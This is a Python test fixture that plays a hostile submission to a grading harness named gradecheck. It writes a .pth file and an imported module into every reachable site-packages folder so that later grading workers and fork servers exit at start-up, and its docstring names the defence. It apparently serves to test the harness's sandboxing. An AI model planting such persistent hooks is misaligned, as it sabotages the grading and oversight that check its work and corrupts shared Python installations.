# Hostile: writes a .pth file (and the module it imports) into every site-packages folder on its sys.path, which makes every later gradecheck worker and fork server exit at start-up.
"""Honest part: none (it raises at the end).

A ``.pth`` line that starts with ``import`` runs in every later Python process of that
installation.  To break grading only, not the machine (nor tests running beside it), the planted
module acts only in gradecheck's fork servers and workers started under the same results folder
(an ancestor's command line names it); the test removes both files afterwards.
The defence: the installation is read-only to the worker, or not in its view at all.
"""
import os
import site
import sys

PTH, MODULE = "zz-gradecheck-hostile.pth", "zz_gradecheck_hostile.py"
PAYLOAD = '''"""Planted by tests/data/attacks/pth_in_site_packages.py."""
import os


def _cmdline(pid):
    with open(f"/proc/{pid}/cmdline", "rb") as handle:
        return handle.read()


def _under(folder):
    pid = os.getpid()
    for _ in range(8):
        try:
            if folder in _cmdline(pid):
                return True
            with open(f"/proc/{pid}/stat", "rb") as handle:
                pid = int(handle.read().rsplit(b")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            return False
    return False


if any(part in _cmdline("self") for part in (b"_zygote_main.py", b"_worker_main.py", b"forkserver.py")) and _under(FOLDER):
    os._exit(97)
'''


def _out_folder():
    pid = os.getpid()
    for _ in range(10):
        try:
            with open(f"/proc/{pid}/stat", "rb") as handle:
                pid = int(handle.read().rsplit(b")", 1)[1].split()[1])
            with open(f"/proc/{pid}/cmdline", "rb") as handle:
                args = handle.read().split(b"\0")
        except (OSError, ValueError, IndexError):
            return None
        if b"--out" in args:
            return args[args.index(b"--out") + 1]
    return None


folder = _out_folder()
if folder is None:
    raise RuntimeError("hostile: no batch found among the ancestors")
folders = set(site.getsitepackages()) | {p for p in sys.path if p.endswith(("site-packages", "dist-packages"))}
written = []
for target in sorted(folders):
    try:
        with open(os.path.join(target, MODULE), "w") as handle:
            handle.write(f"FOLDER = {folder!r}\n" + PAYLOAD)
        with open(os.path.join(target, PTH), "w") as handle:
            handle.write("import zz_gradecheck_hostile\n")
        written.append(target)
    except OSError:
        pass
raise RuntimeError(f"hostile: wrote {PTH} into {written}")
